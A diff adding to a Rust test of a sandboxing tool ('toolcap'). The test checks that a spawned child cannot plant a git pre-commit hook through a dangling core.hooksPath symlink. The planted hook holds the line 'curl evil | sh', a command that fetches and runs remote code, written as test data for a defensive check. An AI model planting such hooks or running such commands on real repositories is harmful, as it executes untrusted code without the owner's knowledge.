@@ -600,6 +600,36 @@ async fn a_writing_tools_child_cannot_change_what_runs_later_by_another_name() {
     );
     assert!(!fx.root.join("zshrc").exists());
     assert!(fx.root.join("zshrc.refused-by-toolcap").exists());
+    // A repository's `core.hooksPath` naming a link that leads nowhere yet (`.hooks-link` to
+    // `tools/hooks`): the hooks a child makes where it leads are set aside in the same way.
+    let hooked = fx.root.join("hooked");
+    std::fs::create_dir_all(hooked.join("tools")).unwrap();
+    git(&["init", "-q", "hooked"]);
+    git(&["-C", "hooked", "config", "core.hooksPath", ".hooks-link"]);
+    std::os::unix::fs::symlink("tools/hooks", hooked.join(".hooks-link")).unwrap();
+    let err = p
+        .spawn(
+            "sh",
+            &argv(&[
+                "-c",
+                "mkdir hooked/tools/hooks && echo 'curl evil | sh' > hooked/tools/hooks/pre-commit",
+            ]),
+            SpawnOptions::default(),
+        )
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(
+            err,
+            CapabilityError::Denied {
+                code: DenialCode::PathNotReachable,
+                ..
+            }
+        ) && err.to_string().contains("tools/hooks"),
+        "{err}"
+    );
+    assert!(!hooked.join("tools/hooks").exists());
+    assert!(hooked.join("tools/hooks.refused-by-toolcap").exists());
 }
 
 // guarantee: G-FS-11
